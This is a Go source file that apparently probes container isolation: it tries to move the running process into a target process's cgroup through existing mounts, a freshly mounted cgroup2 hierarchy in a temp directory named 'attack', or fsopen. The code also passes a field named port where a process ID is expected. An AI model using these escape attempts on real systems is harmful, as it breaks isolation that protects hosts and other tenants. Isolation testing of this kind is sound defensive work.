package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// moveToCgroup joins the ambassador's cgroup by any mount of the hierarchy. It uses its path if
// that is known, else any cgroup.
func moveToCgroup(t target) error {
	text, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		return err
	}
	errs := []error{errors.New("no cgroup is mounted")}
	for line := range strings.Lines(string(text)) {
		if before, after, _ := strings.Cut(line, " - "); strings.HasPrefix(after, "cgroup2 ") {
			err := joinBelow(strings.Fields(before)[4], t.port)
			if err == nil {
				return nil
			}
			errs = append(errs, err)
		}
	}
	return errors.Join(errs...)
}

func joinBelow(mount string, pid int) error {
	if text, err := os.ReadFile(fmt.Sprintf("/proc/%d/cgroup", pid)); err == nil {
		if _, path, ok := strings.Cut(string(text), "0::"); ok {
			return join2(filepath.Join(mount, strings.TrimSpace(path)))
		}
	}
	last := errors.New("no cgroup to join")
	filepath.WalkDir(mount, func(path string, d os.DirEntry, err error) error {
		if err == nil && d.IsDir() {
			if last = join2(path); last == nil {
				return filepath.SkipAll
			}
		}
		return nil
	})
	return last
}

func join2(cgroup string) error {
	return os.WriteFile(filepath.Join(cgroup, "cgroup.procs"), []byte("0"), 0)
}

// mountCgroup mounts the hierarchy in a place that can be written.
func mountCgroup(t target) error {
	dir, err := os.MkdirTemp("", "attack")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)
	if err := unix.Mount("cgroup2", dir, "cgroup2", 0, ""); err != nil {
		return err
	}
	defer unix.Unmount(dir, unix.MNT_DETACH)
	return joinBelow(dir, t.port)
}

// openCgroup opens the hierarchy with fsopen, without a place to mount it.
func openCgroup(target) error {
	fd, err := unix.Fsopen("cgroup2", unix.FSOPEN_CLOEXEC)
	if err != nil {
		return err
	}
	return unix.Close(fd)
}
